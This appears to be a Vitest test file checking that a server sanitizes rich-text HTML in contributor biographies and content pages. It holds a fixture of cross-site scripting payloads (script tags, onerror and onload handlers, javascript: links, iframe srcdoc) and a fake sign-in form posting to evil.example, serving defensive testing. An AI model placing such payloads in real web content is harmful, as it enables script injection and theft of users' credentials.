// @vitest-environment node
import { beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app';
import { nodePlatform } from '../../server/platform/node';
import { openPglite } from '../../server/db/client';
import { buildSchema } from '../../server/db/schema';
import { seedIfEmpty } from '../../server/db/seed';

/* The API server stores rich text as the app's HTML policy leaves it (Node has no DOM: the server brings its own). */
describe('rich text saved through the server', () => {
  let app: Awaited<ReturnType<typeof createApp>>;
  let token = '';
  beforeAll(async () => {
    const database = await openPglite('memory://');
    await seedIfEmpty(database.db, await buildSchema());
    app = await createApp({
      db: database.db,
      config: {
        jwtSecret: 'rich-text-test-secret-0123456789abcd',
        platform: nodePlatform,
        log: () => undefined,
        argon2: { memoryCost: 4096, timeCost: 1 },
      },
    });
    const login = await app.request('/v1/auth/login', {
      method: 'POST',
      body: JSON.stringify({ email: 'admin@demo.com', password: 'admin' }),
    });
    token = (await login.json()).accessToken;
  }, 60_000);
  const call = async (method: string, path: string, body?: unknown) => {
    const response = await app.request(`/v1${path}`, {
      method,
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: response.status, body: await response.json() };
  };

  const HOSTILE =
    '<p style="position:fixed;inset:0" onclick="alert(1)">Hello <a href="javascript:alert(2)">there</a> <a href="https://example.com">site</a></p>' +
    '<script>alert(3)</script><img src="x" onerror="alert(4)"><form action="https://evil.example"><input name="pw"><button>Sign in</button></form>' +
    '<iframe srcdoc="<script>alert(5)</script>"></iframe><img src="data:image/svg+xml,<svg onload=alert(6)>">';
  const CLEAN =
    '<p>Hello <a>there</a> <a href="https://example.com" target="_blank" rel="noopener noreferrer">site</a></p><img src="x"><img>';

  it('runs without a global DOM', () => {
    expect(typeof window).toBe('undefined');
  });

  it('a new contributor’s biography comes back and reads back clean', async () => {
    const created = await call('POST', '/contributor', {
      name: 'Mallory Payload',
      email: 'mallory@example.com',
      biography: HOSTILE,
    });
    expect(created.status).toBe(201);
    expect(created.body.biography).toBe(CLEAN);
    expect((await call('GET', `/contributor/${created.body.id}`)).body.biography).toBe(CLEAN);
  });

  it('an edited content page’s body is stored clean, and its history holds the clean body too', async () => {
    const [page] = (await call('GET', '/content-privacy?range=[0,0]')).body;
    const updated = await call('PUT', `/content-privacy/${page.id}`, { ...page, body: HOSTILE });
    expect(updated.status).toBe(200);
    expect(updated.body.body).toBe(CLEAN);
    expect((await call('GET', `/content-privacy/${page.id}`)).body.body).toBe(CLEAN);
    const [entry] = (await call('GET', `/content-privacy/${page.id}/history`)).body;
    expect(JSON.stringify(entry)).not.toMatch(/onclick|<script|javascript:|<form/);
  });

  it('a body that is nothing but code is empty once clean, and the required field says so', async () => {
    const [page] = (await call('GET', '/content-privacy?range=[0,0]')).body;
    const refused = await call('PUT', `/content-privacy/${page.id}`, {
      ...page,
      body: '<script>alert(1)</script><style>*{}</style>',
    });
    expect(refused.status).toBe(400);
    expect(Object.keys(refused.body.errors)).toEqual(['body']);
  });
});
